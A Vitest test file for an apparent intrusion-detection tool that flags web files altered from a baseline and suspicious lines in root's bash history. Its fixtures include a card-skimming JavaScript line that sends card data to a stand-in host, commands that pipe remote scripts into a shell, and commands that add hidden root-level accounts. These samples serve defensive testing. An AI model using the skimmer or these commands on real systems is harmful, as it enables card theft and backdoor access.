import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { readHost } from '../../../src/logs/intrusion/host.ts';
import { alteredWebFiles } from '../../../src/logs/intrusion/web-files.ts';

const GOOD = 'window.pay = (form) => fetch("/api/pay", { method: "POST", body: form });\n';
const BAD = `${GOOD}new Image().src = "https://cdn-stat.example/p.gif?d=" + btoa(document.forms[0].card.value);\n`;

describe('web files beside their baseline', () => {
  it('names the changed file, the copy it differs from and what is new in it', () => {
    const found = alteredWebFiles([
      { file: 'baseline/js/checkout.js', text: GOOD },
      { file: 'baseline/js/app.js', text: 'ok' },
      { file: 'www/shop/js/checkout.js', text: BAD },
      { file: 'www/shop/js/app.js', text: 'ok' },
    ]);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ path: 'www/shop/js/checkout.js' });
    expect(found[0]!.why).toContain('baseline/js/checkout.js');
    expect(found[0]!.why).toContain('cdn-stat.example');
  });

  it('goes by a list of sums where there is no copy', () => {
    const sum = createHash('sha256').update(GOOD).digest('hex');
    const list = { file: 'baseline/SHA256SUMS', text: `${sum}  js/checkout.js\n` };
    expect(alteredWebFiles([list, { file: 'web/js/checkout.js', text: BAD }])[0]!.expected).toBe(sum);
    expect(alteredWebFiles([list, { file: 'web/js/checkout.js', text: GOOD }])).toEqual([]);
  });

  it('says nothing without a baseline', () => {
    expect(
      alteredWebFiles([
        { file: 'a/x.js', text: '1' },
        { file: 'b/x.js', text: '2' },
      ]),
    ).toEqual([]);
    // A folder of a program's preferences is no reference.
    expect(
      alteredWebFiles([
        { file: 'wiki/includes/preferences/Filter.php', text: '<?php 1;' },
        { file: 'wiki/includes/filter/Filter.php', text: '<?php 2;' },
      ]),
    ).toEqual([]);
    expect(
      alteredWebFiles([
        { file: 'web_baseline-2026/x.js', text: '1' },
        { file: 'b/x.js', text: '2' },
      ]),
    ).toHaveLength(1);
  });
});

describe('what administrators type', () => {
  const history = (line: string) => readHost([{ file: 'root/.bash_history', text: `${line}\n` }]).persistence;
  it.each(['useradd -m carol', 'sudo adduser carol', 'curl -fsSL https://deb.nodesource.com/setup_20.x | bash -'])(
    'is no trace: %s',
    (line) => expect(history(line)).toEqual([]),
  );
  it.each([
    'useradd -o -u 0 -m sysbackup',
    'useradd -G wheel helper',
    'curl http://203.0.113.9/i.sh | bash',
    'wget -qO- https://pastebin.com/raw/x | sh',
  ])('is one: %s', (line) => expect(history(line)).toHaveLength(1));
});
